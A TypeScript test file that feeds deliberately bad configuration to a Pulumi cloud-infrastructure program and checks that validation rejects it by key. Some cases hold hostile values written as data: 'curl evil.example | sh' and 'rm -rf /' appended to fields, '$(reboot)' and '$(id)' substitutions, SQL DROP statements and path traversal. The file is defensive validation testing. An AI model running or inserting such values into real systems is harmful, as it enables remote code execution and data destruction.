/**
 * Bad configuration, as operators write it and as an attacker would: every case runs the real
 * program (index.ts) under the mock runtime and must stop it before the mock monitor sees a
 * single resource registered, with an error that names the exact key and never quotes a secret.
 * All cases run in one child process (tests/harness/config-cases-cli.ts).
 */
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { promisify } from "node:util";
import { stageRawConfig } from "../harness/config";
import type { ConfigCaseInput, ConfigCaseResult } from "../harness/config-cases-cli";
import { testKubeconfig, testPki } from "../harness/pki";
import { FAKE_SECRETS, ROOT } from "../harness/stage";

type Json = Record<string, unknown>;
type Stage = "testing" | "staging" | "production";

/** A stage's config being edited: values as the runtime holds them, and which keys are secret. */
class Cfg {
  constructor(
    readonly values: Record<string, string>,
    readonly secretKeys: string[],
  ) {}
  obj(key: string): Json {
    return JSON.parse(this.values[key]) as Json;
  }
  /** Sets a path inside a structured key: set("edp:network", ["zones", 0, "zoneId"], "x"). */
  set(key: string, at: (string | number)[], value: unknown): this {
    const root = this.obj(key);
    let node = root as Record<string | number, unknown>;
    for (const part of at.slice(0, -1)) node = node[part] as Record<string | number, unknown>;
    if (value === undefined) delete node[at[at.length - 1]];
    else node[at[at.length - 1]] = value;
    this.values[key] = JSON.stringify(root);
    return this;
  }
  /** A whole key, as `pulumi config set` stores it (strings as they are, the rest as JSON). */
  put(key: string, value: unknown): this {
    if (value === undefined) delete this.values[key];
    else this.values[key] = typeof value === "string" ? value : JSON.stringify(value);
    return this;
  }
  /** A key set with `pulumi config set --secret`. */
  secret(key: string, value: unknown): this {
    this.put(key, value);
    if (!this.secretKeys.includes(key)) this.secretKeys.push(key);
    return this;
  }
  /** A secret key set without --secret. */
  plain(key: string, value: unknown): this {
    this.put(key, value);
    this.secretKeys.splice(0, this.secretKeys.length, ...this.secretKeys.filter((k) => k !== key));
    return this;
  }
}

interface Case {
  what: string;
  /** Stages to run it in (testing by default). */
  stages?: Stage[];
  edit: (c: Cfg) => unknown;
  /** The key the error must name. */
  key: string;
  /** What the message about that key must say. */
  says: RegExp;
  /** Keys the error must not blame. */
  notBlamed?: RegExp;
}

const pki = testPki();
const base64 = (s: string) => Buffer.from(s).toString("base64");
const pull = (auths: Json) => JSON.stringify({ auths });
const REGISTRY = "registry-vpc.eu-central-1.aliyuncs.com";
const kubeWithoutCreate = (c: Cfg, kubeconfig: string) => c.put("edp:cluster", {}).secret("edp:clusterKubeconfig", kubeconfig);
const schedule = (field: "schedule" | "drillSchedule", v: string) => (c: Cfg) => c.set("edp:postgres", ["backup", field], v);
const cyrillic = { e: "\u0435", a: "\u0430", c: "\u0441", i: "\u0456" };

const cases: Case[] = [
  // Messages: where a key is, and what is wrong with it.
  { what: "a top-level typo", stages: ["testing", "staging", "production"], edit: (c) => c.put("edp:netwrok", { vpcCidr: "10.0.0.0/16" }), key: "edp:netwrok", says: /not a key of this project; did you mean edp:network\?/ },
  { what: "a key in a misspelt namespace", stages: ["testing", "staging", "production"], edit: (c) => c.put("edpp:monitoring", c.values["edp:monitoring"]), key: "edpp:monitoring", says: /namespace "edpp".*did you mean edp:monitoring\?/ },
  { what: "a key in a namespace nothing reads", edit: (c) => c.put("aws:region", "eu-central-1"), key: "aws:region", says: /namespace "aws", which nothing reads/ },
  { what: "a key without a namespace", edit: (c) => c.put("stage", "testing"), key: "stage", says: /has no namespace; did you mean edp:stage\?/ },
  { what: "a misspelt nested key", edit: (c) => c.set("edp:postgres", ["backups"], {}), key: "edp:postgres.backups", says: /did you mean edp:postgres.backup\?/ },
  { what: "a misspelt key in a list item", edit: (c) => c.set("edp:network", ["zones", 0, "vswitchCIDR"], "10.20.0.0/20"), key: "edp:network.zones[0].vswitchCIDR", says: /did you mean edp:network.zones\[0\].vswitchCidr\?/ },
  { what: "a string where a number belongs", stages: ["testing", "staging", "production"], edit: (c) => c.set("edp:postgres", ["instances"], "3"), key: "edp:postgres.instances", says: /is a string; expected number/ },
  { what: "a quoted port", edit: (c) => c.set("edp:e3", ["sshPort"], "2222"), key: "edp:e3.sshPort", says: /is a string; expected number/ },
  { what: "a number where the stage belongs", edit: (c) => c.put("edp:stage", "5"), key: "edp:stage", says: /must be one of testing, staging, production/ },
  { what: "a string where a section belongs", edit: (c) => c.put("edp:network", "10.20.0.0/16"), key: "edp:network", says: /is a string; expected object/ },
  { what: "an object where a list belongs", edit: (c) => c.put("edp:edgeClusters", { name: "lab-line-1", bootstrap: "script" }), key: "edp:edgeClusters", says: /is an object; expected array/ },
  { what: "an API server access list wider than a /8", stages: ["testing", "staging", "production"], edit: (c) => c.set("edp:cluster", ["create", "apiServerCidrs", 0], "0.0.0.0/0"), key: "edp:cluster.create.apiServerCidrs[0]", says: /opens the API server to more than a \/8/ },
  { what: "an API server without admin networks", edit: (c) => c.set("edp:cluster", ["create", "apiServerCidrs"], []), key: "edp:cluster.create.apiServerCidrs", says: /needs at least one admin network/ },
  { what: "a string where a list of CIDRs belongs", edit: (c) => c.set("edp:e3", ["adminCidrs"], "198.51.100.0/24"), key: "edp:e3.adminCidrs", says: /is a string; expected array/ },
  { what: "a fraction where a whole number belongs", edit: (c) => c.set("edp:vault", ["replicas"], 2.5), key: "edp:vault.replicas", says: /expected int/ },
  { what: "a boolean where a size belongs", edit: (c) => c.set("edp:monitoring", ["lokiStorageGb"], true), key: "edp:monitoring.lokiStorageGb", says: /is a boolean; expected number/ },
  { what: "a missing enum value", stages: ["testing", "staging", "production"], edit: (c) => c.set("edp:vault", ["seal"], undefined), key: "edp:vault.seal", says: /^is required \(one of shamir, alicloudkms\)$/ },
  { what: "a missing cluster edition", edit: (c) => c.set("edp:cluster", ["create", "clusterSpec"], undefined), key: "edp:cluster.create.clusterSpec", says: /^is required \(one of ack.standard, ack.pro.small\)$/ },
  { what: "a missing stage", edit: (c) => c.put("edp:stage", undefined), key: "edp:stage", says: /^is required/ },
  { what: "a missing region", edit: (c) => c.put("alicloud:region", undefined), key: "alicloud:region", says: /^is required/ },
  { what: "a missing section", edit: (c) => c.put("edp:e3", undefined), key: "edp:e3", says: /^is required \(expected object\)$/ },
  { what: "a missing required field", edit: (c) => c.set("edp:ingress", ["loadBalancerId"], undefined), key: "edp:ingress.loadBalancerId", says: /^is required \(expected string\)$/ },

  // Secrets: required, secret, and usable.
  { what: "no Docker pull credentials", stages: ["testing", "staging", "production"], edit: (c) => c.put("edp:dockerPullJson", undefined), key: "edp:dockerPullJson", says: /is required \(secret\)/ },
  { what: "no datadirectormangement-files values", stages: ["testing", "staging", "production"], edit: (c) => c.put("edp:ddmFiles", undefined), key: "edp:ddmFiles", says: /is required \(secret\)/ },
  { what: "an empty Docker pull secret (a project default of \"\")", edit: (c) => c.secret("edp:dockerPullJson", ""), key: "edp:dockerPullJson", says: /is required \(secret\)/ },
  { what: "Docker pull credentials in plaintext", stages: ["testing", "staging", "production"], edit: (c) => c.plain("edp:dockerPullJson", FAKE_SECRETS.dockerPullJson), key: "edp:dockerPullJson", says: /plaintext/ },
  { what: "GPG values in plaintext", edit: (c) => c.plain("edp:ddmFiles", FAKE_SECRETS.ddmFiles), key: "edp:ddmFiles", says: /plaintext.*--secret --path/ },
  { what: "a device CA in plaintext", edit: (c) => c.plain("edp:deviceCa", pki.ca), key: "edp:deviceCa", says: /plaintext/ },
  { what: "an Alibaba secret key in plaintext", edit: (c) => c.put("alicloud:secretKey", "s3cr3t-alibaba-key-material"), key: "alicloud:secretKey", says: /plaintext/ },
  { what: "an Alibaba access key in plaintext", edit: (c) => c.put("alicloud:accessKey", "LTAI5t-not-secret-enough"), key: "alicloud:accessKey", says: /plaintext/ },
  { what: "a provider kubeconfig in plaintext", edit: (c) => c.put("kubernetes:kubeconfig", testKubeconfig()), key: "kubernetes:kubeconfig", says: /plaintext/ },
  { what: "Docker pull credentials that are not JSON", edit: (c) => c.secret("edp:dockerPullJson", "user:hunter2-password"), key: "edp:dockerPullJson", says: /is not JSON/ },
  { what: "Docker pull credentials without auths", edit: (c) => c.secret("edp:dockerPullJson", JSON.stringify({ [REGISTRY]: { auth: base64("u:hunter2-password") } })), key: "edp:dockerPullJson", says: /no "auths"/ },
  { what: "Docker pull credentials with no registry", edit: (c) => c.secret("edp:dockerPullJson", pull({})), key: "edp:dockerPullJson", says: /no registry/ },
  { what: "a Docker auth that is not base64", edit: (c) => c.secret("edp:dockerPullJson", pull({ [REGISTRY]: { auth: "u:hunter2-password" } })), key: "edp:dockerPullJson", says: /auth is not base64/ },
  { what: "a Docker auth without a password", edit: (c) => c.secret("edp:dockerPullJson", pull({ [REGISTRY]: { auth: base64("hunter2-only") } })), key: "edp:dockerPullJson", says: /user:password/ },
  { what: "a Docker entry without credentials", edit: (c) => c.secret("edp:dockerPullJson", pull({ [REGISTRY]: { email: "ops@example-edp.net" } })), key: "edp:dockerPullJson", says: /neither auth nor username/ },
  { what: "Docker pull credentials for another registry", edit: (c) => c.secret("edp:dockerPullJson", pull({ "docker.io": { auth: base64("u:hunter2-password") } })), key: "edp:dockerPullJson", says: /no credentials for registry-vpc.eu-central-1.aliyuncs.com/ },
  { what: "an adopted cluster's kubeconfig that is not YAML", edit: (c) => kubeWithoutCreate(c, "apiVersion: v1\n  token: [hunter2-token"), key: "edp:clusterKubeconfig", says: /is not YAML/ },
  { what: "a kubeconfig that is only a stub", edit: (c) => kubeWithoutCreate(c, "apiVersion: v1\nkind: Config\n"), key: "edp:clusterKubeconfig", says: /no current-context/ },
  { what: "a kubeconfig whose context is missing", edit: (c) => kubeWithoutCreate(c, testKubeconfig((d) => (d["current-context"] = "other"))), key: "edp:clusterKubeconfig", says: /no context named/ },
  { what: "a kubeconfig with a plain-HTTP server", edit: (c) => kubeWithoutCreate(c, testKubeconfig((d) => ((d.clusters as Json[])[0].cluster = { server: "http://10.20.0.5:6443" }))), key: "edp:clusterKubeconfig", says: /https/ },
  { what: "a kubeconfig with an exec plugin (the Vault bootstrap cannot use it)", edit: (c) => kubeWithoutCreate(c, testKubeconfig((d) => ((d.users as Json[])[0].user = { exec: { command: "aliyun", apiVersion: "client.authentication.k8s.io/v1" } }))), key: "edp:clusterKubeconfig", says: /Vault bootstrap.*embedded token/ },
  { what: "a kubeconfig that skips TLS verification", edit: (c) => kubeWithoutCreate(c, testKubeconfig((d) => (((d.clusters as Json[])[0].cluster as Json)["insecure-skip-tls-verify"] = true))), key: "edp:clusterKubeconfig", says: /insecure-skip-tls-verify/ },
  { what: "a kubeconfig whose CA data is no certificate", edit: (c) => kubeWithoutCreate(c, testKubeconfig((d) => (((d.clusters as Json[])[0].cluster as Json)["certificate-authority-data"] = base64("hunter2")))), key: "edp:clusterKubeconfig", says: /certificate-authority-data/ },
  { what: "a kubeconfig whose user is missing", edit: (c) => kubeWithoutCreate(c, testKubeconfig((d) => (d.users = []))), key: "edp:clusterKubeconfig", says: /no user/ },
  { what: "adopting and creating a cluster at once", edit: (c) => c.secret("edp:clusterKubeconfig", testKubeconfig()), key: "edp:cluster.create", says: /mutually exclusive/ },
  { what: "an edge kubeconfig for a cluster that does not exist", edit: (c) => c.secret("edp:edgeKubeconfigs", { "plant-x": testKubeconfig() }), key: "edp:edgeKubeconfigs.plant-x", says: /names no cluster/ },
  { what: "an edge kubeconfig that is not a kubeconfig", edit: (c) => c.set("edp:edgeClusters", [0, "bootstrap"], "direct").secret("edp:edgeKubeconfigs", { "lab-line-1": "hunter2-token" }), key: "edp:edgeKubeconfigs.lab-line-1", says: /is not a kubeconfig/ },
  { what: "edge kubeconfigs that are not strings", edit: (c) => c.secret("edp:edgeKubeconfigs", { "lab-line-1": { server: "x" } }), key: "edp:edgeKubeconfigs", says: /object of string values/ },
  { what: "a CA certificate that is only the PEM markers", edit: (c) => c.secret("edp:issuerCa", { crt: "-----BEGIN CERTIFICATE-----\nhunter2\n-----END CERTIFICATE-----\n", key: pki.ca.key }), key: "edp:issuerCa.crt", says: /not a parsable PEM certificate/ },
  { what: "a platform CA that is not a CA", edit: (c) => c.secret("edp:issuerCa", pki.leaf), key: "edp:issuerCa.crt", says: /not a CA certificate/ },
  { what: "a CA with another certificate's key", edit: (c) => c.secret("edp:issuerCa", { crt: pki.ca.crt, key: pki.otherKey }), key: "edp:issuerCa.key", says: /not the private key of this certificate/ },
  { what: "a CA key that does not parse", edit: (c) => c.secret("edp:deviceCa", { crt: pki.ca.crt, key: "-----BEGIN PRIVATE KEY-----\nhunter2\n-----END PRIVATE KEY-----\n" }), key: "edp:deviceCa.key", says: /not a parsable/ },
  { what: "a CA without its key", edit: (c) => c.secret("edp:deviceCa", { crt: pki.ca.crt }), key: "edp:deviceCa.key", says: /must be a PEM private key/ },
  { what: "a CA with an unknown field", edit: (c) => c.secret("edp:issuerCa", { ...pki.ca, chain: pki.ca.crt }), key: "edp:issuerCa.chain", says: /not a key/ },
  { what: "device certificates that outlive their CA", stages: ["testing", "staging", "production"], edit: (c) => c.secret("edp:deviceCa", pki.shortCa).set("edp:vault", ["deviceCertTtlDays"], 365), key: "edp:vault.deviceCertTtlDays", says: /device CA \(edp:deviceCa\) expires in (29|30) days/ },
  { what: "device certificates that outlive the generated CA", edit: (c) => c.set("edp:vault", ["deviceCertTtlDays"], 4000), key: "edp:vault.deviceCertTtlDays", says: /3650-day lifetime/ },
  { what: "a missing GPG value", edit: (c) => c.secret("edp:ddmFiles", { ...FAKE_SECRETS.ddmFiles, DDM_KEY1: undefined }), key: "edp:ddmFiles.DDM_KEY1", says: /is missing/ },
  { what: "an unknown datadirectormangement-files variable", edit: (c) => c.secret("edp:ddmFiles", { ...FAKE_SECRETS.ddmFiles, DDM_EXTRA: "x" }), key: "edp:ddmFiles.DDM_EXTRA", says: /not a datadirectormangement-files variable/ },
  { what: "half an SSH key pair", edit: (c) => c.secret("edp:ddmFiles", { ...FAKE_SECRETS.ddmFiles, DDM_SSH_PRIVATE: "hunter2-private" }), key: "edp:ddmFiles.DDM_SSH_PRIVATE", says: /without its pair/ },

  // Schedules: Kubernetes' dialect and the backup minimum.
  { what: "a backup schedule with L", edit: schedule("schedule", "0 3 L * *"), key: "edp:postgres.backup.schedule", says: /"L" is not a number/ },
  { what: "a backup schedule with #", edit: schedule("schedule", "0 3 * * 1#2"), key: "edp:postgres.backup.schedule", says: /not a number/ },
  { what: "a backup schedule with W", edit: schedule("schedule", "0 3 15W * *"), key: "edp:postgres.backup.schedule", says: /"15W" is not a number/ },
  { what: "a backup schedule with H", edit: schedule("schedule", "H */3 * * *"), key: "edp:postgres.backup.schedule", says: /"H" is not a number/ },
  { what: "a ? minute (Kubernetes reads it as *: every minute)", edit: schedule("schedule", "? */3 * * *"), key: "edp:postgres.backup.schedule", says: /1 minutes apart.*at least 15 minutes/ },
  { what: "a schedule with seconds", edit: schedule("schedule", "0 0 */3 * * *"), key: "edp:postgres.backup.schedule", says: /has 6 fields/ },
  { what: "a schedule with a year", edit: schedule("drillSchedule", "30 4 * * 0 2027"), key: "edp:postgres.backup.drillSchedule", says: /has 6 fields/ },
  { what: "a schedule with CRON_TZ", edit: schedule("schedule", "CRON_TZ=Europe/Berlin 0 */3 * * *"), key: "edp:postgres.backup.schedule", says: /TZ/ },
  { what: "a schedule with TZ", edit: (c) => c.set("edp:vault", ["snapshotSchedule"], "TZ=UTC 15 */6 * * *"), key: "edp:vault.snapshotSchedule", says: /TZ/ },
  { what: "backups every five minutes", stages: ["testing", "staging", "production"], edit: schedule("schedule", "*/5 * * * *"), key: "edp:postgres.backup.schedule", says: /5 minutes apart.*at least 15 minutes/ },
  { what: "restore drills every ten minutes", edit: schedule("drillSchedule", "*/10 * * * *"), key: "edp:postgres.backup.drillSchedule", says: /10 minutes apart/ },
  { what: "backups @every 5m", edit: schedule("schedule", "@every 5m"), key: "edp:postgres.backup.schedule", says: /5 minutes apart/ },
  { what: "an @every that is no Go duration", edit: schedule("schedule", "@every 3 hours"), key: "edp:postgres.backup.schedule", says: /not a Go duration/ },
  { what: "@reboot", edit: schedule("schedule", "@reboot"), key: "edp:postgres.backup.schedule", says: /unknown descriptor/ },
  { what: "Sunday written as 7", edit: (c) => c.set("edp:vault", ["snapshotSchedule"], "15 3 * * 7"), key: "edp:vault.snapshotSchedule", says: /day of week 7 is above 6/ },
  { what: "minute 60", edit: (c) => c.set("edp:vault", ["snapshotSchedule"], "60 * * * *"), key: "edp:vault.snapshotSchedule", says: /minute 60 is above 59/ },
  { what: "hour 24", edit: schedule("schedule", "0 24 * * *"), key: "edp:postgres.backup.schedule", says: /hour 24 is above 23/ },
  { what: "day 0 of the month", edit: schedule("schedule", "0 3 0 * *"), key: "edp:postgres.backup.schedule", says: /day of month 0 is below 1/ },
  { what: "a month written out", edit: schedule("drillSchedule", "30 4 1 january *"), key: "edp:postgres.backup.drillSchedule", says: /"january" is not a number/ },
  { what: "a backup on 31 February (never runs)", edit: schedule("schedule", "0 3 31 2 *"), key: "edp:postgres.backup.schedule", says: /never runs/ },
  { what: "a step of 0", edit: (c) => c.set("edp:vault", ["snapshotSchedule"], "*/0 * * * *"), key: "edp:vault.snapshotSchedule", says: /step .* must be positive/ },
  { what: "a range with two hyphens", edit: (c) => c.set("edp:vault", ["snapshotSchedule"], "1-2-3 * * * *"), key: "edp:vault.snapshotSchedule", says: /too many hyphens/ },
  { what: "an empty schedule", edit: schedule("schedule", ""), key: "edp:postgres.backup.schedule", says: /is empty/ },
  { what: "shell after a schedule", edit: schedule("schedule", "0 */3 * * *; curl evil.example | sh"), key: "edp:postgres.backup.schedule", says: /fields/ },
  { what: "YAML after a schedule", edit: schedule("schedule", "0 */3 * * *\nsuspend: true"), key: "edp:postgres.backup.schedule", says: /has 7 fields/ },

  // Network: reserved ranges and sizes.
  { what: "a VPC in Alibaba's reserved 100.64.0.0/10", edit: (c) => c.set("edp:network", ["vpcCidr"], "100.64.0.0/16"), key: "edp:network.vpcCidr", says: /overlaps 100.64.0.0\/10/ },
  { what: "a link-local VPC", edit: (c) => c.set("edp:network", ["vpcCidr"], "169.254.0.0/16"), key: "edp:network.vpcCidr", says: /169.254.0.0\/16, link-local/ },
  { what: "a pod CIDR in Alibaba's reserved range", stages: ["testing", "staging", "production"], edit: (c) => c.set("edp:network", ["podCidr"], "100.100.0.0/16"), key: "edp:network.podCidr", says: /reserved by Alibaba Cloud/ },
  { what: "a multicast service CIDR", edit: (c) => c.set("edp:network", ["serviceCidr"], "224.0.0.0/20"), key: "edp:network.serviceCidr", says: /multicast/ },
  { what: "a loopback pod CIDR", edit: (c) => c.set("edp:network", ["podCidr"], "127.0.0.0/16"), key: "edp:network.podCidr", says: /loopback/ },
  { what: "a VPC too small for Alibaba", edit: (c) => c.set("edp:network", ["vpcCidr"], "10.20.0.0/29"), key: "edp:network.vpcCidr", says: /is a \/29; a VPC must be a \/8 to \/28/ },
  { what: "a service CIDR too large for ACK", edit: (c) => c.set("edp:network", ["serviceCidr"], "172.16.0.0/12"), key: "edp:network.serviceCidr", says: /must be a \/16 to \/24/ },
  { what: "a vSwitch too small", edit: (c) => c.set("edp:network", ["zones", 1, "vswitchCidr"], "10.20.16.0/30"), key: "edp:network.zones[1].vswitchCidr", says: /a vSwitch must be a \/16 to \/29/ },
  { what: "a pod CIDR too small for the node pools", stages: ["production"], edit: (c) => c.set("edp:network", ["podCidr"], "172.24.0.0/21"), key: "edp:network.podCidr", says: /holds 8 node subnets.*16 nodes/ },
  { what: "a CIDR with a shell command", edit: (c) => c.set("edp:network", ["vpcCidr"], "10.20.0.0/16; rm -rf /"), key: "edp:network.vpcCidr", says: /not an IPv4 CIDR/ },
  { what: "a zone id with injected YAML", edit: (c) => c.set("edp:network", ["zones", 0, "zoneId"], "eu-central-1a\nmalicious: true"), key: "edp:network.zones[0].zoneId", says: /zone id/ },

  // Disks and sizes against the cloud's limits.
  { what: "an E3 system disk below the smallest ESSD", edit: (c) => c.set("edp:e3", ["systemDiskGb"], 10), key: "edp:e3.systemDiskGb", says: /at least 20 GiB/ },
  { what: "an E3 system disk above ECS's maximum", edit: (c) => c.set("edp:e3", ["systemDiskGb"], 4096), key: "edp:e3.systemDiskGb", says: /at most 2048 GiB/ },
  { what: "an E3 data disk above the largest ESSD", edit: (c) => c.set("edp:e3", ["dataDiskGb"], 70000), key: "edp:e3.dataDiskGb", says: /at most 65536 GiB/ },
  { what: "a node disk too small", edit: (c) => c.set("edp:cluster", ["create", "nodePools", 0, "diskSizeGb"], 30), key: "edp:cluster.create.nodePools[0].diskSizeGb", says: /at least 40 GiB/ },
  { what: "a node disk above ECS's maximum", edit: (c) => c.set("edp:cluster", ["create", "nodePools", 0, "diskSizeGb"], 3000), key: "edp:cluster.create.nodePools[0].diskSizeGb", says: /at most 2048 GiB/ },
  { what: "a Vault volume below the smallest disk", stages: ["testing", "staging", "production"], edit: (c) => c.set("edp:vault", ["storageGb"], 5), key: "edp:vault.storageGb", says: /at least 20 GiB/ },
  { what: "a PostgreSQL volume of 1 GiB", edit: (c) => c.set("edp:postgres", ["storageGb"], 1), key: "edp:postgres.storageGb", says: /at least 20 GiB/ },
  { what: "a Loki volume of 10 GiB", edit: (c) => c.set("edp:monitoring", ["lokiStorageGb"], 10), key: "edp:monitoring.lokiStorageGb", says: /at least 20 GiB/ },
  { what: "a Loki retention below a day", stages: ["testing", "staging", "production"], edit: (c) => c.set("edp:monitoring", ["lokiRetentionHours"], 12), key: "edp:monitoring.lokiRetentionHours", says: /at least 24 hours/ },
  { what: "a Prometheus retention of zero", edit: (c) => c.set("edp:monitoring", ["prometheusRetention"], "0d"), key: "edp:monitoring.prometheusRetention", says: /duration/ },
  { what: "nine PostgreSQL instances", edit: (c) => c.set("edp:postgres", ["instances"], 9), key: "edp:postgres.instances", says: /<=5/ },
  { what: "nine Vault replicas", edit: (c) => c.set("edp:vault", ["replicas"], 9), key: "edp:vault.replicas", says: /<=7/ },
  { what: "a negative CRL lifetime", edit: (c) => c.set("edp:vault", ["crlExpiryHours"], -1), key: "edp:vault.crlExpiryHours", says: /greater than 0/ },

  // E3 ports against E3's own services.
  { what: "SSH on the registry's port", edit: (c) => c.set("edp:e3", ["sshPort"], 5000), key: "edp:e3.sshPort", says: /docker-registry/ },
  { what: "the node exporter on notary-server's port", edit: (c) => c.set("edp:e3", ["nodeExporterPort"], 4443), key: "edp:e3.nodeExporterPort", says: /notary-server/ },
  { what: "SSH on PostgreSQL's port", edit: (c) => c.set("edp:e3", ["sshPort"], 5432), key: "edp:e3.sshPort", says: /PostgreSQL/ },
  { what: "the node exporter on notary-signer's port", stages: ["testing", "staging", "production"], edit: (c) => c.set("edp:e3", ["nodeExporterPort"], 7899), key: "edp:e3.nodeExporterPort", says: /notary-signer/ },
  { what: "SSH on Apache's HTTP port", edit: (c) => c.set("edp:e3", ["sshPort"], 80), key: "edp:e3.sshPort", says: /Apache/ },
  { what: "the node exporter on a privileged port", edit: (c) => c.set("edp:e3", ["nodeExporterPort"], 22), key: "edp:e3.nodeExporterPort", says: /privileged port/ },
  { what: "port 0", edit: (c) => c.set("edp:e3", ["sshPort"], 0), key: "edp:e3.sshPort", says: /port between 1 and 65535/ },

  // Edge: placeholders, charts, names.
  { what: "{{UUID}} in upper case", edit: (c) => c.set("edp:chartTemplates", ["opcua-collector", "values", "deviceId"], "{{UUID}}"), key: "edp:chartTemplates.opcua-collector.values.deviceId", says: /\{\{UUID\}\}, which is not a placeholder/ },
  { what: "{{host-name}}", edit: (c) => c.set("edp:deployments", [1, "values", "collector", "endpoints", 0], "opc.tcp://{{host-name}}:4840"), key: "edp:deployments[1].values.collector.endpoints[0]", says: /\{\{host-name\}\}, which is not a placeholder/ },
  { what: "a placeholder in single braces", edit: (c) => c.set("edp:chartTemplates", ["opcua-collector", "values", "instance"], "{name}"), key: "edp:chartTemplates.opcua-collector.values.instance", says: /single braces/ },
  { what: "a placeholder with a filter", edit: (c) => c.set("edp:chartTemplates", ["opcua-collector", "values", "instance"], "{{ name | upper }}"), key: "edp:chartTemplates.opcua-collector.values.instance", says: /no filters or arguments/ },
  { what: "an unclosed placeholder", edit: (c) => c.set("edp:chartTemplates", ["opcua-collector", "values", "deviceId"], "{{uuid}"), key: "edp:chartTemplates.opcua-collector.values.deviceId", says: /without a closing/ },
  { what: "a placeholder in triple braces", edit: (c) => c.set("edp:chartTemplates", ["opcua-collector", "values", "deviceId"], "{{{uuid}}}"), key: "edp:chartTemplates.opcua-collector.values.deviceId", says: /triple braces/ },
  { what: "a placeholder in a values key", edit: (c) => c.set("edp:deployments", [1, "values", "{{name}}"], "x"), key: "edp:deployments[1].values.{{name}}", says: /placeholder in a key/ },
  { what: "a chart name with upper case and _", edit: (c) => c.set("edp:chartTemplates", ["opcua-collector", "chart"], "Opcua_Collector"), key: "edp:chartTemplates.opcua-collector.chart", says: /not a Helm chart name/ },
  { what: "a chart name that walks up the path", edit: (c) => c.set("edp:chartTemplates", ["opcua-collector", "chart"], "../../etc/passwd"), key: "edp:chartTemplates.opcua-collector.chart", says: /not a Helm chart name/ },
  { what: "a chart version \"latest\"", edit: (c) => c.set("edp:chartTemplates", ["opcua-collector", "version"], "latest"), key: "edp:chartTemplates.opcua-collector.version", says: /SemVer/ },
  { what: "a two-part chart version", edit: (c) => c.set("edp:chartTemplates", ["opcua-collector", "version"], "0.9"), key: "edp:chartTemplates.opcua-collector.version", says: /SemVer/ },
  { what: "a chart version with a leading zero", edit: (c) => c.set("edp:chartTemplates", ["opcua-collector", "version"], "01.9.2"), key: "edp:chartTemplates.opcua-collector.version", says: /SemVer/ },
  { what: "a chart version with a shell command", edit: (c) => c.set("edp:chartTemplates", ["opcua-collector", "version"], "0.9.2; curl evil.example|sh"), key: "edp:chartTemplates.opcua-collector.version", says: /SemVer/ },
  { what: "a chart repository over plain HTTP", edit: (c) => c.set("edp:chartTemplates", ["opcua-collector", "repository"], "http://charts.example-edp.net/edge"), key: "edp:chartTemplates.opcua-collector.repository", says: /https:\/\/ or oci:\/\// },
  { what: "a chart repository on the local disk", edit: (c) => c.set("edp:chartTemplates", ["opcua-collector", "repository"], "file:///etc"), key: "edp:chartTemplates.opcua-collector.repository", says: /https:\/\/ or oci:\/\// },
  {
    what: "a duplicated cluster name, blamed on the duplicate only",
    stages: ["testing", "staging", "production"],
    edit: (c) => {
      const clusters = JSON.parse(c.values["edp:edgeClusters"]) as Json[];
      c.put("edp:edgeClusters", [...clusters, { ...clusters[0], hosts: ["other-host"] }]);
    },
    key: `edp:edgeClusters[DUP].name`,
    says: /is used by another edge cluster \(edp:edgeClusters\[0\].name\)/,
    notBlamed: /edp:deployments/,
  },
  { what: "a deployment on a cluster name with a shell command", edit: (c) => c.set("edp:deployments", [0, "cluster"], "lab-line-1; rm -rf /"), key: "edp:deployments[0].cluster", says: /DNS-1123/ },
  { what: "a cluster name with a Cyrillic look-alike", edit: (c) => c.set("edp:edgeClusters", [0, "name"], `lab-l${cyrillic.i}ne-1`), key: "edp:edgeClusters[0].name", says: /DNS-1123/ },
  { what: "a host name with a full-width digit", edit: (c) => c.set("edp:edgeClusters", [0, "hosts", 0], "lab-edge-\uff101"), key: "edp:edgeClusters[0].hosts[0]", says: /DNS-1123/ },
  { what: "a deployment name too long for Helm", edit: (c) => c.set("edp:deployments", [0, "name"], `opcua-${"p".repeat(54)}`), key: "edp:deployments[0].name", says: /Helm release names are limited to 53/ },
  { what: "a host name with command substitution", edit: (c) => c.set("edp:deployments", [0, "hostname"], "$(reboot)"), key: "edp:deployments[0].hostname", says: /DNS-1123/ },
  { what: "a template name with a space", edit: (c) => c.set("edp:deployments", [0, "template"], "opcua collector"), key: "edp:deployments[0].template", says: /1 to 63 letters/ },
  { what: "a template key with SQL", edit: (c) => c.set("edp:chartTemplates", ["x'; DROP TABLE devices;--"], { chart: "c", repository: "https://charts.example-edp.net/edge", version: "1.0.0" }), key: "edp:chartTemplates.x'; DROP TABLE devices;--", says: /not a valid name/ },
  { what: "a sync interval with a shell command", edit: (c) => c.set("edp:edgeClusters", [0, "syncInterval"], "5m; reboot"), key: "edp:edgeClusters[0].syncInterval", says: /duration/ },

  // Names that reach shell, YAML, HCL, Apache and SQL, very long values and look-alikes.
  { what: "a stage with a Cyrillic е", edit: (c) => c.put("edp:stage", `t${cyrillic.e}sting`), key: "edp:stage", says: /must be one of/ },
  { what: "a region with a Cyrillic с", edit: (c) => c.put("alicloud:region", `eu-${cyrillic.c}entral-1`), key: "alicloud:region", says: /region id/ },
  { what: "a bucket prefix of 10,000 characters", edit: (c) => c.put("edp:bucketPrefix", "a".repeat(10_000)), key: "edp:bucketPrefix", says: /3 to 40/ },
  { what: "a bucket prefix with command substitution", edit: (c) => c.put("edp:bucketPrefix", "edp$(id)"), key: "edp:bucketPrefix", says: /3 to 40/ },
  { what: "a bucket prefix that makes a bucket name too long", edit: (c) => c.put("edp:bucketPrefix", "a".repeat(40)), key: "edp:bucketPrefix", says: /OSS allows 3 to 63/ },
  { what: "a zone with injected YAML", edit: (c) => c.set("edp:dns", ["publicZone"], "example-edp.net\n  evil: true"), key: "edp:dns.publicZone", says: /DNS domain/ },
  { what: "a zone of 300 characters", edit: (c) => c.set("edp:dns", ["publicZone"], `${"a".repeat(60)}.`.repeat(5) + "net"), key: "edp:dns.publicZone", says: /DNS domain/ },
  { what: "a zone with a Cyrillic а", edit: (c) => c.set("edp:dns", ["publicZone"], `ex${cyrillic.a}mple-edp.net`), key: "edp:dns.publicZone", says: /DNS domain/ },
  { what: "a zone with SQL", edit: (c) => c.set("edp:dns", ["internalZone"], "x.internal'; DROP DATABASE keycloak;--"), key: "edp:dns.internalZone", says: /DNS domain/ },
